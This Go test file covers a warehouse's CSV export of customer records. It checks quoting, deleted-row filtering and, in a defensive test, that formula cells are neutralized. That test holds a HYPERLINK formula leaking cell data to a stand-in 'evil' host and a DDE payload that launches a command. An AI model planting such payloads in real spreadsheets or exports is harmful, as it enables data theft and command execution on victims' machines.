package warehouse

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"slices"
	"testing"
	"time"
)

func TestExportRoundTrips(t *testing.T) {
	e := newEnv(t)
	ty := mustType(t, "customers")
	tricky := []string{`Acme, "Best" Goods`, "Two\nlines", `Quote " inside`, "Plain"}
	for i, name := range tricky {
		e.apply(t, ty, mustPrepare(t, ty, obj{
			"id": fmt.Sprintf("cus_%d", i), "object": "customer", "created": 1_690_000_000 + i,
			"email": fmt.Sprintf("c%d@example.com", i), "name": name, "description": "a, b\n\"c\"",
			"livemode": false, "metadata": obj{},
		}, 1, false))
	}
	e.apply(t, ty, mustPrepare(t, ty, obj{"id": "cus_gone", "object": "customer", "deleted": true}, 2, true))

	t.Run("the rows read back equal the query's, commas, quotes and newlines included", func(t *testing.T) {
		var buf bytes.Buffer
		n, err := e.w.Export(context.Background(), &buf, ExportOptions{Type: ty, ConnID: e.connID})
		if err != nil || n != len(tricky) {
			t.Fatalf("exported %d rows, err %v", n, err)
		}
		records, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		header := records[0]
		if header[1] != "id" || !slices.Contains(header, "name") || slices.Contains(header, "data") {
			t.Errorf("header %v", header)
		}
		col := func(name string) int {
			for i, h := range header {
				if h == name {
					return i
				}
			}
			t.Fatalf("no column %q", name)
			return -1
		}
		// The same rows straight from SQLite, in the export's order.
		rows, err := e.db.Reader().Query(`SELECT id, name, description, created FROM stripe_customers
			WHERE connection_id = ? AND is_deleted = 0 ORDER BY created DESC, id DESC`, e.connID)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		i := 1
		for rows.Next() {
			var id, name, desc string
			var created int64
			if err := rows.Scan(&id, &name, &desc, &created); err != nil {
				t.Fatal(err)
			}
			got := records[i]
			if got[col("id")] != id || got[col("name")] != name || got[col("description")] != desc ||
				got[col("created")] != time.Unix(created, 0).UTC().Format(time.RFC3339) {
				t.Errorf("row %d = %q, want id %q name %q description %q", i, got, id, name, desc)
			}
			i++
		}
		if i != len(records) {
			t.Errorf("%d CSV rows, %d in SQLite", len(records)-1, i-1)
		}
	})

	t.Run("deleted objects only when asked, and a since date filters by created", func(t *testing.T) {
		var buf bytes.Buffer
		n, err := e.w.Export(context.Background(), &buf, ExportOptions{Type: ty, IncludeDeleted: true})
		if err != nil || n != len(tricky)+1 {
			t.Errorf("with deleted: %d rows, err %v", n, err)
		}
		buf.Reset()
		n, err = e.w.Export(context.Background(), &buf, ExportOptions{Type: ty, Since: time.Unix(1_690_000_002, 0)})
		if err != nil || n != 2 {
			t.Errorf("since: %d rows, err %v", n, err)
		}
	})
}

// Issue 12: a cell that is a spreadsheet formula was exported as is.
func TestExportNeutralizesFormulas(t *testing.T) {
	e := newEnv(t)
	ty := mustType(t, "customers")
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	e.apply(t, ty, mustPrepare(t, ty, obj{"id": "cus_evil", "object": "customer", "created": 1_690_000_000,
		"name": evil, "description": "+cmd|' /C calc'!A0", "balance": -500, "livemode": false, "metadata": obj{}}, 1, false))
	read := func(o ExportOptions) map[string]string {
		t.Helper()
		var buf bytes.Buffer
		if _, err := e.w.Export(context.Background(), &buf, o); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%d records, %v", len(recs), err)
		}
		cells := map[string]string{}
		for i, h := range recs[0] {
			cells[h] = recs[1][i]
		}
		return cells
	}
	got := read(ExportOptions{Type: ty, ConnID: e.connID})
	if got["name"] != "'"+evil || got["description"] != "'+cmd|' /C calc'!A0" || got["balance"] != "-500" {
		t.Errorf("guarded: name %q description %q balance %q", got["name"], got["description"], got["balance"])
	}
	raw := read(ExportOptions{Type: ty, ConnID: e.connID, RawCells: true})
	if raw["name"] != evil || raw["description"] != "+cmd|' /C calc'!A0" {
		t.Errorf("raw: name %q description %q", raw["name"], raw["description"])
	}
}
